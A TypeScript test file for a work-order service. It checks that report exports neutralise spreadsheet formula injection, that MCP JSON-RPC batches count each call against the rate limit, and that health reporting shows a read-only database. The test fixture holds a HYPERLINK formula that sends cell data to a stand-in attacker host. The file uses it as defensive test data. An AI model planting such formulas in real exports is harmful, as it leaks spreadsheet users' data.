/**
 * Smaller findings of the security issue (11): formula injection in report exports, a JSON-RPC batch
 * of MCP calls counted call by call against the key's limit, and health reporting a database that
 * answers reads but refuses writes.
 */
import ExcelJS from 'exceljs'
import type { Express } from 'express'
import request from 'supertest'

import { env } from '../../src/config/env'
import { seedSlaRules } from '../../src/seed/slaRules'
import { seedWorkCalendar } from '../../src/seed/workCalendar'
import { createApp } from '../../src/server/createApp'
import { useWorld } from '../helpers/fixtures'

const context = useWorld()
let app: Express
let admin: string
const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'

beforeAll(async () => {
  await seedWorkCalendar(context.payload)
  await seedSlaRules(context.payload)
  app = createApp(context.payload, env())
  admin = `JWT ${(await request(app).post('/api/users/login').send({ email: 'admin@test.example', password: 'Secret-123' })).body.token}`
  for (const address of [FORMULA, '+1+1', '@SUM(1)', '-2+3'])
    expect(
      (
        await request(app)
          .post('/api/v1/work-orders')
          .set('Authorization', admin)
          .send({ type: 'help', channel: 'phone', title: '路灯', content: '路灯坏了', address })
      ).status,
    ).toBe(201)
})

describe('report exports', () => {
  it('neutralises cells a spreadsheet would run as formulas, in CSV and XLSX', async () => {
    const csv = await request(app)
      .get('/api/v1/reports/summary?format=csv&from=2026-11-01&to=2026-11-25')
      .set('Authorization', admin)
    expect(csv.status).toBe(200)
    const lines = csv.text.split('\n')
    const cells = lines.flatMap((l) => l.split(',').map((c) => c.replace(/^"/, '')))
    expect(cells.some((c) => c.startsWith("'=HYPERLINK"))).toBe(true)
    expect(cells.some((c) => /^[=+@-]/.test(c))).toBe(false)

    const xlsx = await request(app)
      .get('/api/v1/reports/summary?format=xlsx&from=2026-11-01&to=2026-11-25')
      .set('Authorization', admin)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = []
        res.on('data', (c: Buffer) => chunks.push(c))
        res.on('end', () => done(null, Buffer.concat(chunks)))
      })
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(xlsx.body as never)
    const values: unknown[] = []
    // One sheet per table: the claimant's address is in the hot-addresses sheet.
    for (const sheet of book.worksheets) sheet.eachRow((row) => row.eachCell((cell) => values.push(cell.value)))
    expect(values).toContain(`'${FORMULA}`)
    expect(values.some((v) => typeof v === 'string' && /^[=+@-]/.test(v))).toBe(false)
  })
})

describe('MCP batches', () => {
  it('counts every call of a JSON-RPC batch against the key’s limit', async () => {
    const key = (
      (await context.payload.create({
        collection: 'api-keys',
        data: { name: '批量测试', scopes: ['agent'], rateLimitPerMinute: 5 },
      })) as unknown as { key: string }
    ).key
    const batch = Array.from({ length: 6 }, (_, i) => ({ jsonrpc: '2.0', id: i + 1, method: 'tools/list' }))
    const res = await request(app)
      .post('/api/mcp')
      .set('Authorization', `Bearer ${key}`)
      .set('Accept', 'application/json, text/event-stream')
      .send(batch)
    expect(res.status).toBe(429)
    const single = await request(app)
      .post('/api/mcp')
      .set('Authorization', `Bearer ${key}`)
      .set('Accept', 'application/json, text/event-stream')
      .send({ jsonrpc: '2.0', id: 1, method: 'tools/list' })
    expect(single.status).toBe(429)
  })
})

describe('health', () => {
  it('reports degraded while the database refuses writes', async () => {
    const db = context.payload.db as unknown as { client: { execute: (sql: string) => Promise<unknown> } }
    expect((await request(app).get('/api/v1/health')).body).toMatchObject({
      status: 'ok',
      database: { writable: true },
    })
    await db.client.execute('PRAGMA query_only = 1')
    try {
      const res = await request(app).get('/api/v1/health')
      expect(res.status).toBe(503)
      expect(res.body).toMatchObject({ status: 'degraded', database: { status: 'up', writable: false } })
    } finally {
      await db.client.execute('PRAGMA query_only = 0')
    }
    expect((await request(app).get('/api/v1/health')).body.status).toBe('ok')
  })
})
